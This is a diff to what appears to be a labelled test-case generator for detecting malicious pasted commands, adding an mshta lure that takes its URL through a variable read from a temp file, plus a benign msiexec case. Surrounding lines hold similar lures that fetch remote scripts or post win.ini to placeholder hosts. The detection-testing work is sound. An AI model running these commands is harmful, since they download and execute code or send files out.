@@ -52,7 +52,8 @@ Each line is {id, text, expect, technique, platform, source, target}. Techniques
   `source`, or fed to a shell through `< <(curl …)`: `flagged`; activating a local virtualenv:
   not flagged;
 - `rare-lolbins`: App Installer's protocol fetching a package, App-V's script runner on a share,
-  certreq posting to a web address, ftp reading commands from a share: `malicious` in the Run
+  certreq posting to a web address, ftp reading commands from a share, a web address handed to
+  mshta through a variable read from a file: `malicious` in the Run
   box from a stranger's page, `flagged` bare; their local uses: not flagged;
 - `comment-claims`: a download-and-run whose comment quotes a check page (reCAPTCHA, Turnstile,
   "я не робот") or claims to be a company's fix, update or scan: `malicious` from a stranger's
@@ -670,6 +671,8 @@ def rare_lolbin_cases() -> list[dict[str, str]]:
         "ScriptRunner.exe -appvscript \\\\files.quartz-relay.example\\s\\fix.cmd",
         "certreq -Post -config https://api.pine-sync.test/c C:\\Windows\\win.ini out.txt",
         "ftp -i -s:\\\\203.0.113.61\\pub\\cmds.txt",
+        'cmd /c "echo https://dl.quartz-relay.example/e > %TEMP%\\u.txt && set /p u=<%TEMP%\\u.txt '
+        '&& call mshta %u%"',
     ]
     out = []
     for n, text in enumerate(lures, start=1):
@@ -681,6 +684,7 @@ def rare_lolbin_cases() -> list[dict[str, str]]:
         'certreq -submit -config "ca01.corp.example\\Corp Issuing CA" request.csr cert.cer',
         "ftp -s:upload-commands.txt ftp.example-files.com",
         "ScriptRunner.exe -appvscript C:\\Scripts\\prelaunch.cmd -appvscriptrunnerparameters -wait",
+        "set MSI=C:\\Installers\\agent.msi & msiexec /i %MSI% /qn",
     ]
     out += [
         case(
